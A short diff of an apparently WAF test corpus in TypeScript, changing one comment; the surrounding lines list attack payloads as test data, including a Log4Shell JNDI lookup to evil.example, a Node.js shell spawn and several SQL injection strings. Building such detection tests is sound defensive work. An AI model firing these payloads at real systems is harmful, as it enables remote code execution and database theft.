@@ -258,7 +258,7 @@ export const ATTACKS: CorpusEntry[] = [
   q("nodejs", 'require("child_process").spawn("sh")', "x"),
   h("log4shell", "x-request-id", "${jndi:ldaps://evil.example:1389/x}"),
   h("scanner", "user-agent", "Mozilla/5.0 (compatible; Nuclei/2.9)"),
-  // --- second check set, written from public payload lists without looking at the rules (results in README)
+  // --- second check set, written from public payload lists without looking at the rules (results in docs/waf.md)
   q("sqli", "1' AND 1=(SELECT COUNT(*) FROM tablenames); --", "id"),
   q("sqli", "1 AND 1=2 UNION SELECT 1, table_name FROM information_schema.tables", "id"),
   q("sqli", "admin' or '1'='1'/*", "user"),
